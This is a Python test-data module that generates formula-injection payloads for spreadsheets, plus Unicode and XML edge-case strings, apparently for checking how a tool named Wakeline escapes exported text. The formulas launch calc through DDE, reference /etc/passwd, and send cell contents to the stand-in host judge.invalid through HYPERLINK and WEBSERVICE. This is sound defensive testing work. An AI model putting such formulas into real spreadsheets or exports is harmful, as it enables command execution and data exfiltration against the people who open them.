"""Texts that try to become something else: a row of the attack list each.

All were written for Wakeline; none is copied from a published list. The host names end in .invalid (RFC 2606), so that
none of them leads anywhere.
"""

from dataclasses import dataclass, field

import payloads_markup
import payloads_html

HOST = "judge.invalid"

ROWS = {
    1: "CSV and XLSX formulas",
    11: "HTML and scripts",
    12: "Typst and Markdown",
    13: "XML and characters",
}


@dataclass(frozen=True)
class Payload:
    """One text, and what is known of it."""

    text: str
    # What a reader of rendered Markdown must be shown of it: its letters and digits in order; none if Markdown may hide it.
    shown: str | None = field(default=None)


def formulas():
    """Row 1: every lead of a formula, everywhere that a spreadsheet may begin a cell, with bodies that act."""
    leads = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    places = ["", "x;", "x,", "x\t", 'x"', 'x";"', "x\n", "x\r\n", "\u200b", "\ufeff", "\u202e", "\u2066", "   ", "\u00a0", "'"]
    bodies = [
        "cmd|'/c calc'!A1",
        f'HYPERLINK("http://{HOST}/?"&A1,"x")',
        f'WEBSERVICE("http://{HOST}/"&A2)',
        'DDE("soffice";"/etc/passwd";"a1")',
        "1+1",
        "SUM(1;2)",
    ]
    found = []
    for lead in leads:
        for place in places:
            for body in bodies:
                # A break is no formula by itself: it hides the sign that follows it.
                sign = "=" if lead in "\t\r\n\0" else ""
                found.append(Payload(f"{place}{lead}{sign}{body}"))
    # Without anything behind the formula: for a cell that is read as ending at a separator within the text.
    for between in [";", ",", "\t", "|", "\n", "\r\n", '";', '"\n', "';"]:
        for lead in leads[:4]:
            found.append(Payload(f"x{between}{lead}1+1{between}y"))
    return found


def characters():
    """Row 13: every code point of the first plane, samples beyond it, names in five scripts, what XML trips over."""
    chunk = 96
    points = [c for c in range(0x10000) if not 0xD800 <= c <= 0xDFFF]
    found = [Payload("".join(map(chr, points[at : at + chunk]))) for at in range(0, len(points), chunk)]
    planes = [0x10000, 0x1D11E, 0x1F6A2, 0x1FFFD, 0x1FFFE, 0x1FFFF, 0x20000, 0x2FFFF, 0xE0001, 0xE0020, 0xF0000, 0x10FFFD]
    found += [Payload(f"a{chr(c)}b") for c in [*planes, 0x10FFFE, 0x10FFFF]]
    found += [
        Payload(text)
        for text in [
            "]]>", "<![CDATA[x]]>", "&#0;", "&#x1;", "&#xD800;", "&nbsp;", "&lol;", '<!DOCTYPE a [<!ENTITY b "c">]>',
            '<?xml version="1.0"?>', "<?php x ?>", "--><!--", "a\0b\x01c\x08d\x0be\x0cf\x1fg", "\x7f\x80\x85\x9f",
            "\ufffd", "\ufffe\uffff", "_x0041_ _x000D_", "_x005F_x0041_", "\r", "a\rb\r\nc\nd",
            "a" + "\u0301" * 1000, "\u0e01" + "\u0e49" * 200, "Z\u0351\u036b\u0343\u036a\u0302" * 20,
            "\u202eevil\u202c", "\u2066a\u2069\u2067b\u2069\u2068c\u2069", "\u200ea\u200fb\u061cc", "a\u200db\u200cc",
            "평양 청진", "\u1111\u1167\u11bc\u110b\u1163\u11bc", "Восточный Находка", "ناقلة بندر عباس", "חיפה אשדוד",
            "عربي latin עברית 한국어 кириллица", "СНОNМА", "Ｆｕｌｌ　ｗｉｄｔｈ", "👩\u200d👩\u200d👧\u200d👦 🏴\u200d☠️ 🇰🇵",
        ]
    ]
    return found


def of_row(row):
    """The payloads of a row, each once."""
    texts = {
        1: formulas,
        11: lambda: [Payload(text) for text in payloads_html.texts(HOST)],
        12: lambda: [Payload(text, shown) for text, shown in payloads_markup.texts(HOST)],
        13: characters,
    }[row]()
    return list({payload.text: payload for payload in texts}.values())
